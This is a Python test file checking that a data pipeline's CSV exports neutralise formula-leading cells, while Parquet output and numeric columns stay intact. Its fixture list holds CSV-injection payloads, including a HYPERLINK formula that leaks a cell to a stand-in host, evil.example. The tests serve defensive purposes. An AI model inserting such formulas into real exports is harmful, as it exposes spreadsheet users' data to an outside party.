"""Every CSV a recipient receives neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq

from assets.exports import write_dataset_files
from lakehouse.csv_safety import FORMULA_PREFIXES, neutralise_formulas

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
    "pediatrics",
    "",
    None,
]


def _table() -> pa.Table:
    return pa.table(
        {
            "search_term": pa.array(HOSTILE, pa.string()),
            "searches": pa.array([-5, 3, -2, 0, 7, 1, 4, 2, None], pa.int64()),
            "searches_error95": pa.array([-1.5, 2.0, 0.5, 1.0, 1.0, 1.0, 1.0, 1.0, 1.0]),
        }
    )


def test_an_export_csv_neutralises_formula_leading_cells(tmp_path: Path) -> None:
    table = _table()
    write_dataset_files(table, tmp_path, "top_search_terms", ("csv", "parquet"))
    with (tmp_path / "top_search_terms.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    terms = [row["search_term"] for row in rows]
    assert terms[:6] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "'+1",
        "'-2",
        "'@SUM(A1:A9)",
        "'\tcmd",
        "'\r=1+1",
    ]
    assert terms[6:] == ["pediatrics", "", ""]
    assert not any(term.startswith(FORMULA_PREFIXES) for term in terms)
    # Numeric columns are numbers: a negative count stays a negative number.
    assert [row["searches"] for row in rows] == ["-5", "3", "-2", "0", "7", "1", "4", "2", ""]
    back = pacsv.read_csv(tmp_path / "top_search_terms.csv")
    assert back.column("searches").type == pa.int64()
    assert back.column("searches").to_pylist()[0] == -5
    assert back.column("searches_error95").to_pylist()[0] == -1.5
    # The Parquet file is the stored release as it is (a typed format runs no formula).
    assert pq.read_table(tmp_path / "top_search_terms.parquet").equals(table)


def test_neutralising_is_idempotent_and_leaves_safe_tables_alone() -> None:
    once = neutralise_formulas(_table())
    assert neutralise_formulas(once).equals(once)
    safe = pa.table({"page_section": ["home", "other"], "page_views": [-1, 2]})
    assert neutralise_formulas(safe).equals(safe)


def test_dictionary_encoded_text_is_neutralised_too() -> None:
    table = pa.table({"term": pa.array(["=1+1", "ok"]).dictionary_encode()})
    assert neutralise_formulas(table).column("term").to_pylist() == ["'=1+1", "ok"]
